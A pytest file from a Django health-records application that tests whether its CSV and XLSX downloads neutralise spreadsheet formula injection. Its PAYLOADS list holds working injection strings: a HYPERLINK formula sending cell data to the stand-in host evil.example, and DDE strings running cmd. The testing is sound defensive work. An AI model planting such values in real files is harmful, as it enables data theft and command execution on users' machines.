"""Every CSV and XLSX the application hands out is written by `mhis.downloads`: a cell that a
spreadsheet would run as a formula (=, +, -, @, a tab or carriage return first) is neutralised
— an apostrophe in CSV, text marked to stay text in XLSX — while numbers stay numbers. Checked
with the payloads of an insider test, for each download: the import's rejected rows (page and
command), the indicator tables (CSV, XLSX) and the field forms (XLSX)."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from openpyxl import load_workbook

from mhis import downloads
from mhis.indicators import exports
from mhis.intake.models import Job

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]
NUMBERS = ["-5", "+3.2", "1e-3", "-12%", "0", "42"]


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_csv_is_inert(text: str, payloads=PAYLOADS) -> None:
    cells = cells_of(text)
    for payload in payloads:
        assert "'" + payload in cells, payload
    assert not [c for c in cells if downloads.risky(c)]
    # Every cell quoted: a spreadsheet splitting on ";" cannot cut a cell before "=".
    quoted = io.StringIO()
    csv.writer(quoted, quoting=csv.QUOTE_ALL).writerows(csv.reader(io.StringIO(text)))
    assert text == quoted.getvalue()


@pytest.mark.parametrize("text", PAYLOADS)
def test_what_a_spreadsheet_would_run_is_risky(text):
    assert downloads.risky(text)


@pytest.mark.parametrize("text", [*NUMBERS, "Aung Aung", "", "a=b", "<5"])
def test_numbers_and_plain_text_are_not(text):
    assert not downloads.risky(text)
    assert downloads.csv_cell(text) == text


KEYS = sorted({p.strip() for p in PAYLOADS})  # an imported cell is read without its spaces


def rejected_rows_file(tmp_path):
    """A people file whose keys are the payloads, each row refused for its sex."""
    path = tmp_path / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["source_key", "name", "registration_site", "sex"])
        for payload in PAYLOADS:
            writer.writerow([payload, "Aung Aung", "MSOT-CLIN", "x;=1+1"])
    return path


def test_the_rejected_rows_csv_of_an_import_is_inert(client, people, tmp_path):
    client.force_login(people["clinician"])
    body = rejected_rows_file(tmp_path).read_bytes()
    client.post("/imports/", {"what": "kind:people", "source": "s",
                              "file": SimpleUploadedFile("hostile.csv", body)})  # fmt: skip
    job = Job.objects.get()
    text = client.get(f"/imports/{job.pk}/rejected.csv").content.decode()
    assert_csv_is_inert(text, KEYS)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["row", "source_key", "field", "reason"] and rows[1][0] == "1"


def test_the_rejected_rows_report_of_the_command_is_inert(people, tmp_path):
    report = tmp_path / "rejected.csv"
    call_command("import", str(rejected_rows_file(tmp_path)), user="mae_sot_clinician", source="s",
                 report=str(report), stdout=io.StringIO())  # fmt: skip
    with report.open(encoding="utf-8", newline="") as f:
        assert_csv_is_inert(f.read(), KEYS)


def test_the_indicator_tables_are_inert_and_keep_numbers():
    rows = [["Period", "Place", "Value"], *[["2026-Q1", p, n] for p, n in zip(PAYLOADS, NUMBERS * 2, strict=False)]]  # fmt: skip
    text = exports.to_csv(rows)
    assert_csv_is_inert(text)
    assert {"-5", "+3.2", "1e-3", "-12%"} <= set(cells_of(text))
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(rows, "ENCOUNTERS"))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    payload_cells = [c for c in cells if c.column == 2]
    assert [c.value for c in payload_cells] == [
        p.replace("\r", "\n") for p in PAYLOADS
    ]  # as written
    assert all(c.data_type == "s" and c.quotePrefix for c in payload_cells)
    numbers = [c for c in cells if c.column == 3]
    assert all(c.data_type == "s" and not c.quotePrefix for c in numbers)


def test_numbers_given_as_numbers_stay_numbers_in_xlsx():
    sheet = load_workbook(io.BytesIO(downloads.to_xlsx([[-5, 3.25, "-5", "=1+1"]], "t"))).active
    a, b, c, d = next(sheet.iter_rows())
    assert (a.value, a.data_type, b.value, b.data_type) == (-5, "n", 3.25, "n")
    assert (c.value, c.quotePrefix) == ("-5", False)
    assert (d.value, d.data_type, d.quotePrefix) == ("=1+1", "s", True)


def test_a_site_named_like_a_formula_stays_text_in_the_field_form(client, people, world):
    from mhis.places.services import create_place

    name = PAYLOADS[0]
    create_place(code="MSOT-EVIL", name=name, kind="site", parent=world["MAESOT"], site_type="clinic")  # fmt: skip
    client.force_login(people["clinician"])
    response = client.get("/imports/forms/mhis_health_session.xlsx")
    book = load_workbook(io.BytesIO(response.content))
    (row,) = [r for r in book["choices"].iter_rows() if r[1].value == "MSOT-EVIL"]
    labels = [c for c in row[2:] if c.value == name]
    assert labels and all(c.data_type == "s" and c.quotePrefix for c in labels)
    assert not [c for r in book["choices"].iter_rows() for c in r if c.data_type == "f"]
